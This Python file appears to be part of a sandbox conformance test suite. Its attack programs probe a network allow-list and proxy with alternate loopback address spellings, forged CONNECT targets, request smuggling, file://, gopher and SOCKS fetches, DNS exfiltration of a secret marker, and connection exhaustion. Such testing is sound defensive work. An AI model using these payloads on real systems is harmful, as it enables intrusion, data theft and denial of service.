"""Attacks on an allow-list, in a box that may reach one port of this machine: whatever else there is must stay shut.

The bait is another port of the same address. A box may offer its way out as a proxy, named by `http_proxy`; then that is
attacked too.
"""

from __future__ import annotations

from dataclasses import replace

from agentgym.conformance.sandbox import network
from agentgym.conformance.sandbox.attack import Attack, program
from agentgym.conformance.sandbox.host import Host
from agentgym.core.sandbox import SandboxSpec

_ASK = """
allowed, bait = f"127.0.0.1:{given['allowed']}", f"127.0.0.1:{given['tcp']}"
def ask(*requests):
    place = os.environ["http_proxy"].removeprefix("http://").rstrip("/").split(":")
    got = b""
    with socket.create_connection((place[0], int(place[1])), 5) as connection:
        connection.settimeout(2)
        for number, request in enumerate(requests, 1):
            try:
                connection.sendall(request.encode("latin-1"))
                if number == len(requests):
                    connection.shutdown(socket.SHUT_WR)
                while data := connection.recv(1000):
                    got += data
                    if got.endswith(b"\\r\\n\\r\\n"):
                        break
            except OSError as error:
                got += str(error).encode()
    return got
def connect(target, *more):
    return ask(f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n", *more)
def tried(answers):
    told = set()
    for answer in answers:
        if b"agentgym-bait" in answer:
            return answer
        told.add(answer.split(b"\\r\\n")[0].decode("latin-1"))
    raise PermissionError("; ".join(sorted(told)))
"""


def _asks(aim: str, body: str) -> Attack:
    return program(aim, _ASK + body)


def spec_with_list(spec: SandboxSpec, host: Host) -> SandboxSpec:
    """Return the box that is attacked: of the host it may reach one server, which has no secret."""
    return replace(spec, network="allowlist", allowed_hosts=(f"127.0.0.1:{host.known['allowed']}",))


ATTACKS: dict[str, Attack] = {
    **{f"allowlist.{id.partition('.')[2]}": attack for id, attack in network.ATTACKS.items()},
    "allowlist.other_port": _asks(
        "reach another port of a host that is allowed",
        """
def attack():
    return tried([connect(bait, "x"), ask(f"GET http://{bait}/ HTTP/1.1\\r\\nHost: {bait}\\r\\n\\r\\n")])
""",
    ),
    "allowlist.other_names": _asks(
        "reach it by another name or spelling of the address",
        """
def attack():
    names = ("localhost", "LOCALHOST.", "127.1", "0", "0.0.0.0", "127.0.0.2", "2130706433", "0x7f000001", "0177.0.0.1")
    names += ("[::1]", "[::ffff:127.0.0.1]", "[::]", socket.gethostname())
    return tried(connect(f"{name}:{given['tcp']}", "x") for name in names)
""",
    ),
    "allowlist.forged_target": _asks(
        "reach it by an address that can be read in two ways",
        """
def attack():
    targets = (
        f"{allowed}@{bait}", f"{bait}#{allowed}", f"{bait}?{allowed}", f"{bait}/{allowed}", f"{allowed},{bait}",
        f"{bait}\\0{allowed}", f"{bait}\\t{allowed}", f"{allowed}:{given['tcp']}", f"{bait} {allowed}",
        f"{allowed} HTTP/1.1\\r\\nHost: {bait}\\r\\n\\r\\nCONNECT {bait}", f"//{bait}", f"http://{bait}", "",
    )
    plain = [f"http://{allowed}@{bait}/", f"http://{bait}#@{allowed}/", f"HTTP://{bait}\\\\@{allowed}/", f"//{bait}/"]
    head = " HTTP/1.1\\r\\nHost: " + bait + "\\r\\n\\r\\n"
    return tried([*(connect(target, "x") for target in targets), *(ask("GET " + target + head) for target in plain)])
""",
    ),
    "allowlist.second_request": _asks(
        "reach it by a later request on a connection that was let through",
        """
def attack():
    again = f"CONNECT {bait} HTTP/1.1\\r\\nHost: {bait}\\r\\n\\r\\n"
    plain = f"GET http://{allowed}/ HTTP/1.1\\r\\nHost: {bait}\\r\\nContent-Length: 0\\r\\n\\r\\n"
    return tried([connect(allowed, again, "x"), ask(plain + again, "x"), ask(plain, again, "x")])
""",
    ),
    "allowlist.other_protocols": _asks(
        "have the proxy fetch by another protocol",
        """
def attack():
    secret = given["secret"]
    urls = (f"file://{secret}", f"ftp://{bait}/", f"https://{bait}/", f"gopher://{bait}/", f"unix:{given['unix']}", secret)
    port = given["tcp"].to_bytes(2, "big").decode("latin-1")
    socks = ("\\5\\1\\0" + "\\5\\1\\0\\1\\x7f\\0\\0\\1" + port, "\\4\\1" + port + "\\x7f\\0\\0\\1\\0")
    return tried([*(ask(f"GET {url} HTTP/1.1\\r\\n\\r\\n") for url in urls), *(ask(words + "x") for words in socks)])
""",
    ),
    "allowlist.names": _asks(
        "carry a secret out in a name that is looked up",
        """
def attack():
    answer = connect(given["marker"] + ".invalid:80").split(b"\\r\\n")[0].decode()
    if " 403" in answer or " 400" in answer:
        raise PermissionError(answer)
    return answer
""",
    ),
    "allowlist.connections": _asks(
        "hold more connections than the host has to spare",
        """
def attack():
    place = os.environ["http_proxy"].removeprefix("http://").rstrip("/").split(":")
    held = []
    for _ in range(500):
        held.append(socket.create_connection((place[0], int(place[1])), 10))
        held[-1].settimeout(10)
        held[-1].sendall(f"CONNECT {allowed} HTTP/1.1\\r\\n\\r\\n".encode())
        answer = held[-1].recv(100).split(b"\\r\\n")[0].decode()
        if " 200" not in answer:
            raise PermissionError(f"after {len(held) - 1}: {answer}")
    return f"{len(held)} connections"
""",
    ),
}
"""By id."""
